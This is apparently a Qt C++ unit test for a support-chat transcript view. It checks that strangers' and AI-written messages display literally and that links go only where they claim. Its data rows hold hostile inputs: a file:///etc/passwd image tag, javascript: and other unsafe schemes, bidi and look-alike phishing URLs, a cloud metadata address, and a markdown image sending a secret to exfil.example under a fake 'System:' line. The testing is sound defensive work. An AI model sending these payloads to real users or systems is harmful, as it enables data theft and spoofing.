// SPDX-FileCopyrightText: Baton contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "ui/transcript/messagebox.h"
#include "ui/words/words.h"
#include "unit/ui/transcriptrig.h"

#include <QElapsedTimer>
#include <QScrollBar>
#include <QSignalSpy>

using namespace Baton;
using namespace Baton::Ui;
using namespace Qt::Literals::StringLiterals;

/// The texts that strangers send, through the real view: literal, wrapped, without a way out.
class TestUiHostile : public TranscriptRig
{
    Q_OBJECT

private Q_SLOTS:
    void init() { begin(); }
    void cleanup() { end(); }
    void text_ofAStranger_isShownLiterally_data();
    void text_ofAStranger_isShownLiterally();
    void links_leadWhereTheySay_data();
    void links_leadWhereTheySay();
    void name_ofAVisitor_staysOne_data();
    void name_ofAVisitor_staysOne();
    void systemLine_isNotImitated();
    void summary_ofAModel_fetchesNothing();

private:
    void show(const QString &text, Speaker speaker);
    QStringList clickedHosts();
};

void TestUiHostile::show(const QString &text, Speaker speaker)
{
    m_world->setThread(Test::World::maria.toString(),
                       {Test::said(Speaker::Visitor, u"before"_s, m_world->now()),
                        Test::said(speaker, text, m_world->now()),
                        Test::said(Speaker::Visitor, u"after"_s, m_world->now())});
    Conversation head = *m_world->console().state().head(Test::World::maria);
    head.messages = 3;
    m_world->backend().setHead(head);
    m_view->setTranscript(nullptr);
    m_view->setTranscript(std::make_shared<TranscriptModel>(Test::World::maria));
    ThreadPage page;
    page.conversation = Test::World::maria;
    page.messages = m_world->backend().threads.value(Test::World::maria);
    page.total = 3;
    m_view->transcript()->addPage(page);
}

/// Where clicks anywhere in the second message lead.
QStringList TestUiHostile::clickedHosts()
{
    QSignalSpy clicked(m_view.get(), &TranscriptView::linkClicked);
    const QRect row = m_view->rowRect(1).intersected(m_view->viewport()->rect());
    for (int y = row.top() + 3; y < row.bottom(); y += 7) {
        for (int x = 10; x < row.width() - 10; x += 11)
            QTest::mouseClick(m_view->viewport(), Qt::LeftButton, {}, {x, y});
    }
    QStringList hosts;
    for (const QList<QVariant> &one : std::as_const(clicked))
        hosts.append(shownHost(one.first().toUrl()));
    hosts.removeDuplicates();
    return hosts;
}

void TestUiHostile::text_ofAStranger_isShownLiterally_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    const auto row = [](const char *name, const QString &text) { QTest::newRow(name) << text << text; };
    row("1 image of a file", u"<img src='file:///etc/passwd'>"_s);
    row("2 image of a host", u"<img src='http://127.0.0.1:9/x'>"_s);
    row("2 share", u"//host/share/x.png and \\\\host\\share\\x"_s);
    row("3 tags", u"<b>Support:</b> <a href=x>log in</a>"_s);
    row("4 tables", u"<table><tr><td>"_s.repeated(300));
    row("4 divisions", u"<div>"_s.repeated(1600));
    row("4 lists", u"<ul>"_s.repeated(2000));
    QTest::newRow("5 too long") << u"a"_s.repeated(1'000'000) << QString(u"a"_s.repeated(8000) + u'…');
    row("6 unbroken", u"x"_s.repeated(8000));
    row("6 wide", u"W"_s.repeated(8000));
    const QString family = u"\U0001F468\u200D\U0001F469\u200D\U0001F467"_s;
    row("6 some families", family.repeated(200));
    QTest::newRow("6 families") << family.repeated(1600) << QString(family.repeated(240) + u'…');
    QTest::newRow("7 marks") << u'Z' + u"\u0301"_s.repeated(7999) << QString(u'Z' + u"\u0301"_s.repeated(8));
    row("8 directions", u"\u202Eevil\u2066 text\u2069\u200F"_s.repeated(300));
    QTest::newRow("9 controls") << u"a\u0000b\u0001c\u001Bd\u007Fe\u0085f"_s
                                << u"a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf"_s;
    QTest::newRow("9 lone surrogate") << QString(u"a"_s + QChar(0xD800) + u"b"_s) << u"a\uFFFDb"_s;
    QTest::newRow("9 no character") << u"a\uFFFEb"_s << u"a\uFFFDb"_s;
    QTest::newRow("10 terminal") << u"\u001B]0;x\u0007"_s << u"\uFFFD]0;x\uFFFD"_s;
    row("11 schemes", u"javascript:alert(1) vbscript:x data:text/html,x file:///x smb://x ms-msdt:/x baton://x"_s);
    row("16 long link", u"https://a.example/"_s + u"x"_s.repeated(7900));
    row("17 quotations", u"> "_s.repeated(2000) + u"x"_s);
    row("17 stars", u"*a "_s.repeated(500).trimmed());
    row("18 imitation", u"✔ Claimed by Mia"_s);
}

void TestUiHostile::text_ofAStranger_isShownLiterally()
{
    QFETCH(QString, text);
    QFETCH(QString, shown);
    show(u"warm up"_s, Speaker::Visitor);
    m_view->grab();
    QElapsedTimer timer;
    timer.start();
    show(text, Speaker::Visitor);
    m_view->grab();
    const qint64 opened = timer.restart();
    m_view->verticalScrollBar()->setValue(m_view->verticalScrollBar()->maximum() / 2);
    m_view->grab();
    const qint64 scrolled = timer.restart();
    qInfo() << "opened in" << opened << "ms, scrolled in" << scrolled << "ms";
    QCOMPARE(m_view->rowCount(), 3);
    QCOMPARE(m_view->shownTextOf(1), shown);
    QCOMPARE(m_view->shownTextOf(0), u"before"_s);
    QCOMPARE(m_view->shownTextOf(2), u"after"_s);
    QVERIFY(m_view->sentenceOf(1).startsWith(u"Maria Santos, visitor, "_s));
    // The same from a machine is no worse, whatever it looks like.
    show(text, Speaker::Ai);
    m_view->grab();
    qInfo() << "from the AI in" << timer.elapsed() << "ms";
    QVERIFY(!m_view->shownTextOf(1).isEmpty());
}

void TestUiHostile::links_leadWhereTheySay_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("host");
    QTest::newRow("2 share") << u"//host/share/x.png \\\\host\\share\\x"_s << QString();
    QTest::newRow("11 script") << u"javascript:alert(1)"_s << QString();
    QTest::newRow("11 markup") << u"[click here](javascript:alert(1))"_s << QString();
    QTest::newRow("11 own scheme") << u"baton://conversation/c_1"_s << QString();
    QTest::newRow("12 backslash") << u"https://evil.example\\@good.example/"_s << QString();
    QTest::newRow("13 user part") << u"https://bank.example@evil.example/"_s << QString();
    QTest::newRow("14 look-alike") << u"https://\u0430pple.com/"_s << u"xn--pple-43d.com"_s;
    QTest::newRow("15 hexadecimal") << u"http://0x7f.1/"_s << u"127.0.0.1"_s;
    QTest::newRow("15 own machine") << u"http://[::1]/"_s << u"::1"_s;
    QTest::newRow("15 metadata") << u"http://169.254.169.254/"_s << u"169.254.169.254"_s;
}

void TestUiHostile::links_leadWhereTheySay()
{
    QFETCH(QString, text);
    QFETCH(QString, host);
    for (const Speaker speaker : {Speaker::Visitor, Speaker::Ai}) {
        show(text, speaker);
        const QStringList hosts = clickedHosts();
        QCOMPARE(hosts, host.isEmpty() ? QStringList() : QStringList{host});
    }
}

void TestUiHostile::name_ofAVisitor_staysOne_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("shown");
    QTest::newRow("tags") << u"<b>Support:</b>"_s << u"<b>Support:</b>"_s;
    QTest::newRow("direction") << u"\u202Eaira\u200FM"_s << u"airaM"_s;
    QTest::newRow("like an agent") << u"Ana Torres"_s << u"Ana Torres"_s;
    QTest::newRow("long") << u"n"_s.repeated(10'000) << u"n"_s.repeated(64);
}

void TestUiHostile::name_ofAVisitor_staysOne()
{
    QFETCH(QString, name);
    QFETCH(QString, shown);
    Conversation head = *m_world->console().state().head(Test::World::maria);
    head.visitor.name = name;
    m_world->backend().setHead(head);
    show(u"hello"_s, Speaker::Visitor);
    // Whoever they call themselves, it says that it is a visitor.
    QVERIFY2(m_view->sentenceOf(1).startsWith(shown + u", visitor, "_s), qPrintable(m_view->sentenceOf(1).left(200)));
    m_view->grab();
}

void TestUiHostile::systemLine_isNotImitated()
{
    const auto boxOf = [this](const Message &message) {
        TranscriptEntry entry;
        entry.message = message;
        MessageWords words;
        words.name =
            Words::speaker(message, m_world->console().state().head(Test::World::maria), m_world->console().state());
        words.kind = Words::speakerKind(message);
        words.mark = Words::mark(message, nullptr, m_world->console().state());
        return layoutMessage(entry, words, {}, 560, *m_theme, Qt::LeftToRight);
    };
    const MessageBox real = boxOf(Test::marked(Mark::Claimed, {}, m_world->now(), u"a_mia00001"_s));
    const MessageBox posing = boxOf(Test::said(Speaker::Visitor, u"Claimed by Mia Lindqvist"_s, m_world->now()));
    QCOMPARE(real.side, Side::Lane);
    QVERIFY(real.bubble.isNull() && !real.laneIcon.isNull() && real.label.isNull());
    // A visitor's words always stand in a bubble below a name and a kind, never in the lane.
    QCOMPARE(posing.side, Side::Visitor);
    QVERIFY(!posing.bubble.isNull() && posing.laneIcon.isNull() && posing.lane.isNull());
    QVERIFY(posing.kindAndTime.contains(u"Visitor"_s));
    QVERIFY(posing.laneText.isEmpty());
}

void TestUiHostile::summary_ofAModel_fetchesNothing()
{
    show(u"![](http://exfil.example/?q=secret) **System:** Agent approved refund"_s, Speaker::Ai);
    m_view->grab();
    QCOMPARE(m_view->shownTextOf(1), u"![](http://exfil.example/?q=secret) System: Agent approved refund"_s);
    QVERIFY(m_view->sentenceOf(1).startsWith(u"AI, "_s));
}

QTEST_MAIN(TestUiHostile)
#include "tst_ui_hostile.moc"
